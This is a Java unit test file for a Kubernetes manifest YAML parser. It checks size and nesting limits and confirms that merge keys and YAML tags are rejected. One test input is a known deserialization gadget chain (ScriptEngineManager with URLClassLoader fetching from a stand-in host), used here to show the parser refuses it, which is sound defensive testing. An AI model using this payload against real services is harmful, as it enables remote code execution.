package dev.sailplan.core;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.sailplan.core.k8s.Namespace;
import dev.sailplan.core.meta.ObjectMeta;
import dev.sailplan.core.meta.Resource;
import dev.sailplan.core.problem.ManifestException;
import dev.sailplan.core.problem.Problem;
import java.io.IOException;
import java.io.Reader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.AbstractCollection;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Input that used to hang, crash or change meaning: every input is read in time linear in its size,
 * and what Sailplan does not read is an error with its line and path. The timeouts are hang guards
 * (minutes before), generous for a loaded machine, not speed goals.
 */
class ParserLimitsTest {
  private static final Duration HANG_GUARD = Duration.ofSeconds(60);

  private static List<String> problems(String yaml) {
    ManifestException e =
        assertThrows(ManifestException.class, () -> Manifests.parse(yaml, "in.yaml"));
    return e.problems().stream().map(Problem::toString).toList();
  }

  @Test
  void manyDocumentsWithAnErrorEachAreReadInLinearTime() {
    int count = 20_000;
    StringBuilder yaml = new StringBuilder();
    for (int i = 0; i < count; i++) {
      yaml.append("---\napiVersion: v1\nkind: Namespace\nmetadata:\n  name: n")
          .append(i)
          .append("\n  color: red\n");
    }
    List<String> found = assertTimeoutPreemptively(HANG_GUARD, () -> problems(yaml.toString()));
    assertEquals(count, found.size());
    assertTrue(
        found.get(count - 1).startsWith("in.yaml: document 20000, line 120000: metadata.color: "),
        found.get(count - 1));
  }

  @Test
  void aLongScalarIsReadInLinearTime() {
    String value = "x".repeat(6_000_000);
    String yaml =
        "apiVersion: v1\nkind: Namespace\nmetadata:\n  name: n\n  annotations:\n    a: "
            + value
            + "\n";
    List<Resource> parsed =
        assertTimeoutPreemptively(HANG_GUARD, () -> Manifests.parse(yaml, "in.yaml"));
    assertEquals(value, parsed.get(0).metadata().annotations().get("a"));
    // The full path (taken on any error) reads it as fast: a long comment, then an unknown field.
    List<String> found =
        assertTimeoutPreemptively(
            HANG_GUARD, () -> problems("# " + value + "\n" + yaml + "color: " + value + "\n"));
    assertEquals(1, found.size());
    assertTrue(found.get(0).startsWith("in.yaml: document 1, line 8: color: unknown field"));
  }

  @Test
  void aScalarOverTheLimitIsAnErrorWithItsLine() {
    String yaml =
        "apiVersion: v1\nkind: Namespace\nmetadata:\n  name: n\n  annotations:\n    a: "
            + "x".repeat(8 * 1024 * 1024 + 1)
            + "\n";
    assertEquals(
        List.of(
            "in.yaml: document 1, line 6: metadata.annotations.a: a scalar longer than 8388608"
                + " characters"),
        assertTimeoutPreemptively(HANG_GUARD, () -> problems(yaml)));
  }

  @Test
  void mergeKeysAreErrorsNotLiteralKeys() {
    String yaml =
        """
        apiVersion: v1
        kind: Namespace
        metadata:
          name: shop
          labels:
            <<: {app: web}
        """;
    assertEquals(
        List.of(
            "in.yaml: document 1, line 6: metadata.labels[\"<<\"]: merge keys (<<) are not supported:"
                + " write the merged fields out in full"),
        problems(yaml));
    // Quoted, it is a plain key (and not a valid label, which validation reports).
    assertEquals(
        "<<",
        Manifests.parse(yaml.replace("<<: {app: web}", "\"<<\": web"), "in.yaml")
            .get(0)
            .metadata()
            .labels()
            .keySet()
            .iterator()
            .next());
  }

  @Test
  void tagsAreErrorsNotSilentlyDropped() {
    assertEquals(
        List.of(
            "in.yaml: document 1, line 4: metadata.name: YAML tags are not supported (!foo):"
                + " remove it (quote the value to make it a string)"),
        problems("apiVersion: v1\nkind: Namespace\nmetadata:\n  name: !foo shop\n"));
    assertEquals(
        List.of(
            "in.yaml: document 1, line 3: metadata: YAML tags are not supported"
                + " (tag:yaml.org,2002:javax.script.ScriptEngineManager): remove it (quote the value"
                + " to make it a string)"),
        problems(
            "apiVersion: v1\nkind: Namespace\nmetadata: !!javax.script.ScriptEngineManager"
                + " [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n"));
    assertEquals(
        List.of(
            "in.yaml: document 1, line 4: metadata.name: the value does not match its tag"
                + " (tag:yaml.org,2002:bool)"),
        problems("apiVersion: v1\nkind: Namespace\nmetadata:\n  name: !!bool shop\n"));
    assertEquals(
        List.of(
            "in.yaml: document 1, line 4: metadata.name: YAML tags are not supported"
                + " (tag:yaml.org,2002:binary): remove it (quote the value to make it a string)"),
        problems("apiVersion: v1\nkind: Namespace\nmetadata:\n  name: !!binary c2hvcA==\n"));
    // The core schema's own tags keep their meaning: !!str makes a string of what is not one.
    assertEquals(
        "5",
        Manifests.parse(
                "apiVersion: v1\nkind: Namespace\nmetadata: !!map\n  name: !!str 5\n", "in.yaml")
            .get(0)
            .metadata()
            .name()
            .orElseThrow());
  }

  @Test
  void aListWhoseItemsAreNotAListIsAnError() {
    assertEquals(
        List.of("in.yaml: document 1, line 3: items: items must be a list, not a mapping"),
        problems("apiVersion: v1\nkind: List\nitems:\n  a: b\n"));
    assertEquals(
        List.of("in.yaml: document 1, line 3: items: items must be a list, not a scalar"),
        problems("apiVersion: v1\nkind: List\nitems: hello\n"));
    assertEquals(
        List.of("in.yaml: document 1, line 1: items: missing items"),
        problems("apiVersion: v1\nkind: List\n"));
  }

  @Test
  void listItemProblemsCarryTheItemsLines() {
    String yaml =
        """
        apiVersion: v1
        kind: List
        items:
        - apiVersion: v1
          kind: Namespace
          metadata:
            name: a
        - apiVersion: v1
          kind: Nope
          metadata: {name: b}
        - 42
        - apiVersion: v1
          kind: Namespace
          metadata:
            name: c
            color: red
        """;
    assertEquals(
        List.of(
            "in.yaml: document 1, line 8: items[1].apiVersion: unknown kind Nope (apiVersion v1)",
            "in.yaml: document 1, line 11: items[2]: a list item must be a mapping",
            "in.yaml: document 1, line 16: items[3].metadata.color: unknown field (known:"
                + " annotations, creationTimestamp, deletionGracePeriodSeconds, deletionTimestamp,"
                + " finalizers, generateName, generation, labels, managedFields, name, namespace,"
                + " ownerReferences, …)"),
        problems(yaml));
  }

  @Test
  void nestingTooDeepNamesTheLimit() {
    String deep = "[".repeat(70) + "]".repeat(70);
    assertEquals(
        List.of("in.yaml: document 1, line 4: nesting deeper than 64 levels"),
        problems("apiVersion: v1\nkind: Namespace\nmetadata:\n  labels: " + deep + "\n"));
  }

  @Test
  void aComplexKeyIsAnErrorWithoutTheParsersEventDump() {
    assertEquals(
        List.of("in.yaml: document 1, line 4: metadata: a mapping key must be a plain string"),
        problems("apiVersion: v1\nkind: Namespace\nmetadata:\n  ? [a, b]\n  : c\n"));
  }

  @Test
  void textThatIsNotUtf8IsAProblemWithItsLine(@TempDir Path dir) throws IOException {
    Path file = dir.resolve("bad.yaml");
    byte[] head =
        "apiVersion: v1\nkind: Namespace\nmetadata:\n  name: caf"
            .getBytes(StandardCharsets.US_ASCII);
    byte[] bytes = new byte[head.length + 2];
    System.arraycopy(head, 0, bytes, 0, head.length);
    bytes[head.length] = (byte) 0xE9; // Latin-1 é
    bytes[head.length + 1] = '\n';
    Files.write(file, bytes);
    ManifestException e = assertThrows(ManifestException.class, () -> Manifests.parse(file));
    assertEquals(
        List.of(file + ": line 4: not valid UTF-8"),
        e.problems().stream().map(Problem::toString).toList());
  }

  @Test
  void renderingVeryManyResourcesDoesNotOverflowTheSizeGuess() {
    Namespace shop = Namespace.builder().metadata(ObjectMeta.named("shop")).build();
    // A collection claiming millions of elements: 1 KB each would overflow an int.
    AbstractCollection<Resource> many =
        new AbstractCollection<>() {
          @Override
          public Iterator<Resource> iterator() {
            return List.<Resource>of(shop).iterator();
          }

          @Override
          public int size() {
            return 3_000_000;
          }
        };
    assertEquals(Manifests.toYaml(shop), Manifests.toYaml(many));
  }

  @Test
  void aStreamIsReadDocumentByDocument() throws IOException {
    int documents = 50_000;
    String one = "---\napiVersion: v1\nkind: Namespace\nmetadata:\n  name: n\n";
    CountingReader in = new CountingReader(one, documents);
    List<Long> readWhenHandedOver = new ArrayList<>();
    Manifests.forEachResource(
        in,
        "gen.yaml",
        r -> {
          if (readWhenHandedOver.size() < 3) {
            readWhenHandedOver.add(in.read);
          }
        });
    assertEquals((long) one.length() * documents, in.read);
    // The first resources are handed over after reading a buffer or two, not the whole stream.
    assertTrue(readWhenHandedOver.get(2) <= 16 * 1024, readWhenHandedOver.toString());
  }

  /** Generates a stream of {@code count} copies of one document, counting what was read. */
  private static final class CountingReader extends Reader {
    private final String document;
    private final long total;
    long read;

    CountingReader(String document, int count) {
      this.document = document;
      this.total = (long) document.length() * count;
    }

    @Override
    public int read(char[] buffer, int offset, int length) {
      if (read == total) {
        return -1;
      }
      int n = (int) Math.min(length, total - read);
      for (int i = 0; i < n; i++) {
        buffer[offset + i] = document.charAt((int) ((read + i) % document.length()));
      }
      read += n;
      return n;
    }

    @Override
    public void close() {}
  }
}
